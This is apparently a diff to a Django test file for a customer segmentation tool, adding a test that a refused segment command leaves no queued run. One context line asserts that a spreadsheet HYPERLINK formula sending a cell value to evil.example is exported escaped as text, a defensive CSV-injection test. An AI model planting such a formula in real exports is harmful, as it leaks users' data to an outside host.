@@ -9,6 +9,7 @@ from io import StringIO
 import pandas as pd
 import pytest
 from django.core.management import CommandError, call_command
+from django.utils import timezone
 
 from segments import selectors
 from segments.models import Customer, Order, Segment, SegmentationRun
@@ -101,3 +102,15 @@ def test_export_writes_formula_like_ids_and_names_as_text_and_numbers_as_numbers
     assert all(row["segment_name"] == '\'=HYPERLINK("http://evil.example/?x="&A2,"Champions")' for row in rows.values())
     assert rows["'-12"]["monetary"] == "-12.5"
     assert float(rows["C0001"]["monetary"]) > 0 and rows["C0001"]["rfm_code"].isdigit()
+
+
+def test_a_segment_command_refused_while_a_run_is_running_leaves_no_queued_run(shop):
+    holder = SegmentationRun.objects.create(status="running", started_at=timezone.now(), heartbeat_at=timezone.now())
+
+    with pytest.raises(CommandError, match=f"run {holder.pk} is still running"):
+        call_command("segment", "--k", "3")
+
+    refused = SegmentationRun.objects.exclude(pk=holder.pk).get()
+    assert not SegmentationRun.objects.filter(status="queued").exists()
+    assert refused.status == "failed" and refused.finished_at is not None
+    assert refused.error == f"not started: run {holder.pk} is still running; two segmentations never overlap"
